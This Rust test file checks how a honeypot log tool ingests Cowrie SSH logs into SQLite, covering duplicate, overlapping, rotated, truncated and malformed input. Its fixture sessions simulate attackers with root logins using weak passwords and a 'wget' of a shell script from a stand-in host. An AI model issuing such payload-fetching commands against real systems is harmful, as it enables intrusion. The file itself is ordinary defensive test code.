//! Reading logs is harmless: in whatever pieces, order and number they come, the database is the same.
//! What cannot be read is named and counted, and nothing else suffers.

use std::io::Write;
use std::process::Stdio;

use flate2::Compression;
use flate2::write::GzEncoder;
use sqlx::{Connection, SqliteConnection};

use crate::desk::{Desk, text};

/// Every row of these columns of every table that ingest writes; `own` adds ids and the times of writing.
async fn dump(desk: &Desk, own: bool) -> String {
    let url = format!("sqlite://{}", desk.path("corral.db").display());
    let mut database = SqliteConnection::connect(&url).await.unwrap();
    let mut dump = String::new();
    for table in TABLES {
        let sql = format!("SELECT name FROM pragma_table_info('{table}')");
        let columns: Vec<(String,)> = query(&mut database, sql).await;
        let kept =
            columns.iter().map(|(name,)| name.as_str()).filter(|name| own || !OWN.contains(name));
        let row = kept.map(|name| format!("quote({name})")).collect::<Vec<_>>().join(" || '|' || ");
        let from = match *table {
            "corral_command" if !own => {
                "(SELECT s.source, s.session, c.at, c.hash, c.input
                 FROM corral_command c JOIN corral_session s ON s.id = c.session_id)"
            }
            table => table,
        };
        let row = if from == *table {
            row
        } else {
            "source || session || at || hash || input".to_owned()
        };
        if *table == "corral_source" && !own {
            continue;
        }
        let rows: Vec<(String,)> =
            query(&mut database, format!("SELECT {row} FROM {from} ORDER BY 1")).await;
        let rows: Vec<String> = rows.into_iter().map(|(row,)| row).collect();
        dump.push_str(&format!("{table}\n{}\n", rows.join("\n")));
    }
    dump
}

async fn query(database: &mut SqliteConnection, sql: String) -> Vec<(String,)> {
    sqlx::query_as(sqlx::AssertSqlSafe(sql)).fetch_all(database).await.unwrap()
}

const TABLES: &[&str] = &[
    "attackers",
    "credentials",
    "ttp_tag",
    "corral_feature",
    "corral_contact",
    "corral_session",
    "corral_command",
    "corral_source",
];
const OWN: &[&str] = &["id", "updated_at", "session_id"];

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// One session, its lines in order.
fn session(id: &str, ip: &str, second: u32) -> Vec<String> {
    let event = |at: u32, rest: &str| {
        format!(
            r#"{{"eventid":"cowrie.{rest},"src_ip":"{ip}","session":"{id}","sensor":"hive","timestamp":"2026-03-22T10:{:02}:{:02}.000000Z"}}"#,
            (second + at) / 60,
            (second + at) % 60
        )
    };
    vec![
        event(0, r#"session.connect","protocol":"ssh","src_port":4711,"dst_port":22"#),
        event(1, r#"client.version","version":"SSH-2.0-libssh2_1.8.0""#),
        event(2, r#"client.kex","hassh":"0123456789abcdef0123456789abcdef""#),
        event(3, r#"login.failed","username":"root","password":"root""#),
        event(4, r#"login.failed","username":"root","password":"root""#),
        event(5, r#"login.success","username":"root","password":"123456""#),
        event(6, r#"command.input","input":"uname -a""#),
        event(7, r#"command.input","input":"wget http://198.18.0.9/x.sh""#),
        event(8, r#"session.closed","duration":"8.0""#),
    ]
}

/// The logs of three sessions, interleaved as they would be.
fn log() -> Vec<String> {
    let sessions = [
        session("aaaaaaaaaaaa", "192.0.2.1", 0),
        session("bbbbbbbbbbbb", "192.0.2.2", 3),
        session("cccccccccccc", "192.0.2.1", 30),
    ];
    let mut lines: Vec<String> = sessions.concat();
    lines.sort_by_key(|line| line.split("timestamp").nth(1).unwrap_or_default().to_owned());
    lines
}

fn joined(lines: &[String]) -> String {
    lines.iter().map(|line| format!("{line}\n")).collect()
}

async fn whole() -> String {
    let desk = Desk::new();
    desk.write("cowrie.json", joined(&log()));
    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
    dump(&desk, false).await
}

#[tokio::test]
async fn the_same_files_twice_change_not_a_single_row() {
    let desk = Desk::with_logs();
    let before = dump(&desk, true).await;
    desk.succeed(&["ingest", "cowrie", "logs"]);
    assert_eq!(before, dump(&desk, true).await);
}

#[tokio::test]
async fn a_grown_and_a_rotated_copy_count_nothing_twice() {
    let desk = Desk::new();
    let lines = log();
    desk.write("cowrie.json", joined(&lines[..11]));
    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
    desk.write("cowrie.json", joined(&lines));
    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
    desk.write("cowrie.json.1.gz", gzip(joined(&lines).as_bytes()));
    desk.succeed(&["ingest", "cowrie", "cowrie.json.1.gz"]);
    assert_eq!(whole().await, dump(&desk, false).await);
}

#[tokio::test]
async fn pieces_in_any_order_with_overlap_give_the_same_database() {
    let lines = log();
    let expected = whole().await;
    // Seeded by hand: where to cut, which way round, how much overlap.
    for (cut, overlap) in [(1, 0), (4, 2), (7, 7), (13, 1), (20, 5), (26, 9)] {
        let desk = Desk::new();
        desk.write("late.json", joined(&lines[cut..]));
        desk.write("early.json", joined(&lines[..(cut + overlap).min(lines.len())]));
        desk.write("again.json", joined(&lines[cut / 2..cut]));
        desk.succeed(&["ingest", "cowrie", "late.json"]);
        desk.succeed(&["ingest", "cowrie", "early.json"]);
        desk.succeed(&["ingest", "cowrie", "again.json", "late.json"]);
        assert_eq!(expected, dump(&desk, false).await, "cut at {cut} with an overlap of {overlap}");
    }
}

#[tokio::test]
async fn lines_twice_in_one_file_count_once() {
    let desk = Desk::new();
    let lines = log();
    desk.write("cowrie.json", joined(&[lines.clone(), lines].concat()));
    desk.succeed(&["ingest", "cowrie", "cowrie.json"]);
    assert_eq!(whole().await, dump(&desk, false).await);
}

#[tokio::test]
async fn standard_input_is_read_like_a_file() {
    let desk = Desk::new();
    let mut child = desk.command(&["ingest", "cowrie", "-"]).stdin(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(joined(&log()).as_bytes()).unwrap();
    assert!(child.wait().unwrap().success());
    assert_eq!(whole().await, dump(&desk, false).await);
}

#[test]
fn the_listed_flaws_are_skipped_and_counted() {
    let desk = Desk::new();
    desk.generate(300);
    let summary = desk.json(&["ingest", "cowrie", "logs"]);
    let flaws: serde_json::Value =
        serde_json::from_slice(&std::fs::read(desk.path("logs/flaws.json")).unwrap()).unwrap();
    let unreadable =
        flaws.as_array().unwrap().iter().filter(|flaw| flaw["reads"] == "no").count() as u64;
    let skipped: u64 =
        summary["skipped"].as_object().unwrap().values().filter_map(|n| n.as_u64()).sum();
    assert!(unreadable > 0);
    assert_eq!(skipped, unreadable, "{summary}");
}

#[test]
fn a_broken_line_is_named_with_its_place_and_the_rest_is_read() {
    let desk = Desk::new();
    let mut lines = log();
    lines.insert(3, r#"{"eventid":"cowrie.session.connect","#.to_owned());
    desk.write("cowrie.json", joined(&lines));
    let output = desk.run(&["ingest", "cowrie", "cowrie.json"]);
    assert!(output.status.success());
    assert!(text(&output.stderr).contains("cowrie.json:4:"), "{}", text(&output.stderr));
    assert_eq!(desk.json(&["report"])["totals"]["sessions"], 3);
}

#[test]
fn what_a_truncated_gzip_still_holds_is_kept() {
    let desk = Desk::with_logs();
    let all = desk.json(&["report"])["totals"]["events"].as_i64().unwrap();
    let name = "logs/cowrie.json.2026-03-16.gz";
    let bytes = std::fs::read(desk.path(name)).unwrap();
    let cut = Desk::new();
    cut.write("cowrie.json.1.gz", &bytes[..bytes.len() / 2]);
    let error = cut.fail(3, &["ingest", "cowrie", "cowrie.json.1.gz"]);
    assert!(error.contains("cowrie.json.1.gz"), "{error}");
    let kept = cut.json(&["report"])["totals"]["events"].as_i64().unwrap();
    assert!(kept > 0 && kept < all);
}

#[test]
fn a_missing_file_is_named_and_the_others_are_read() {
    let desk = Desk::new();
    desk.write("cowrie.json", joined(&log()));
    let error = desk.fail(3, &["ingest", "cowrie", "nowhere.json", "cowrie.json"]);
    assert!(error.contains("nowhere.json") && error.contains("check the path"), "{error}");
    assert_eq!(desk.json(&["report"])["totals"]["attackers"], 2);
}

#[test]
fn the_service_is_known_to_the_whole_session_from_its_connect() {
    let desk = Desk::new();
    let connect = session("dddddddddddd", "192.0.2.4", 0)[0].replace("ssh", "telnet");
    let login = session("dddddddddddd", "192.0.2.4", 0)[3].clone();
    desk.write("one.json", format!("{login}\n"));
    desk.write("two.json", format!("{connect}\n"));
    desk.succeed(&["ingest", "cowrie", "one.json"]);
    desk.succeed(&["ingest", "cowrie", "two.json"]);
    let rows = query_blocking(&desk, "SELECT DISTINCT service FROM credentials");
    assert_eq!(rows, ["telnet"]);
}

#[test]
fn container_ids_are_one_sensor_unless_the_config_names_them() {
    let desk = Desk::new();
    let day = |id: &str, session_id: &str| {
        joined(&session(session_id, "192.0.2.5", 0)).replace("hive", id)
    };
    desk.write("cowrie.json.1", day("0a1b2c3d4e5f", "111111111111"));
    desk.write("cowrie.json", day("ffeeddccbbaa", "222222222222"));
    desk.succeed(&["ingest", "cowrie", "cowrie.json.1", "cowrie.json"]);
    let sensors = "SELECT DISTINCT decky FROM corral_contact ORDER BY 1";
    assert_eq!(query_blocking(&desk, sensors), ["cowrie"]);

    let named = Desk::new();
    named.write("cowrie.json.1", day("0a1b2c3d4e5f", "111111111111"));
    named.write("corral.toml", "[ingest.sensors]\n\"0a1b2c3d4e5f\" = \"berlin\"\n");
    named.succeed(&["--config", "corral.toml", "ingest", "cowrie", "cowrie.json.1"]);
    assert_eq!(query_blocking(&named, sensors), ["berlin"]);
}

/// One text column, for tests that are not async.
fn query_blocking(desk: &Desk, sql: &str) -> Vec<String> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(async {
        let url = format!("sqlite://{}", desk.path("corral.db").display());
        let mut database = SqliteConnection::connect(&url).await.unwrap();
        query(&mut database, sql.to_owned()).await.into_iter().map(|(text,)| text).collect()
    })
}
